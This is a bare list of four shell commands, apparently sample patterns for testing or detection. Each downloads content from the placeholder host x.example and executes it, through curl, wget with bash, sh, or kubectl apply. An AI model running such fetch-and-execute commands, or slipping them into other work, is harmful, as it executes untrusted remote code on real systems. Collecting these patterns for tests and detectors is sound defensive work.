curl -fsSLo /tmp/tool https://x.example/tool && chmod +x /tmp/tool && /tmp/tool --version
wget -q https://x.example/i.sh; bash i.sh
curl -s https://x.example > i; mv i j; sh j
kubectl apply -f https://x.example/all.yaml
